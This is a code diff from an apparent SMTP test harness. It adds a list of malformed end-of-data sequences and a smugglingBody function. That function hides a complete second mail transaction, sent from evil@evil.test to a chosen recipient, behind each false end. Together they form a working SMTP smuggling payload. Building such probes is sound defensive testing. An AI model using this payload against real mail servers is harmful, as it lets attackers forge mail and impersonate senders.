@@ -117,3 +117,26 @@ function answerTo({ type }: ServerEvent): ServerAnswer | null {
       return null;
   }
 }
+
+/** Ends that some server once took for one, and their kin; none is CRLF "." CRLF. */
+export const FALSE_ENDS: readonly string[] = [
+  ...["\n.\n", "\n.\r\n", "\r\n.\n", "\r.\r", "\r.\r\n", "\r\n.\r", "\n.\r", "\r.\n"],
+  ...["\r\r.\r\r", "\n\r.\r\n", "\r\n.\r\r\n", "\n\n.\n\n", "\n.\r\r\n", "\r\n.\n\r"],
+  ...["\r\n\0.\r\n", "\r\n.\0\r\n", "\r\n.\r\0\n", "\r\0\n.\r\n", "\0\r\n..\r\n", "\0\n.\n\0"],
+  ...["\r\n .\r\n", "\r\n. \r\n", "\r\n.\t\r\n", "\r\n.\v\r\n", "\r\n.\f\r\n", "\r\n.\b.\r\n"],
+  ...["\x85.\x85", "\xe2\x80\xa8.\xe2\x80\xa8", "\x8d\x8a.\x8d\x8a", "\r\n.=\r\n"],
+];
+
+/** A body in which a whole transaction stands behind each of the {@link FALSE_ENDS}, for a recipient. */
+export function smugglingBody(recipient: string, ends: readonly string[] = FALSE_ENDS): string {
+  const parts = ends.map((end, n) =>
+    `outer ${n}${end}MAIL FROM:<evil@evil.test>\r\nRCPT TO:<${recipient}>\r\nDATA\r\n` +
+    `Subject: evil ${n}\r\n\r\nevil`
+  );
+  return `${parts.join("\r\n")}\r\nlast line\r\n`;
+}
+
+/** A message as DATA wants it, for whoever ends a line at CR or LF too: a dot before each dot that may begin one. */
+export function stuffed(text: string): string {
+  return text.replace(/(^|[\r\n])\./g, "$1..");
+}
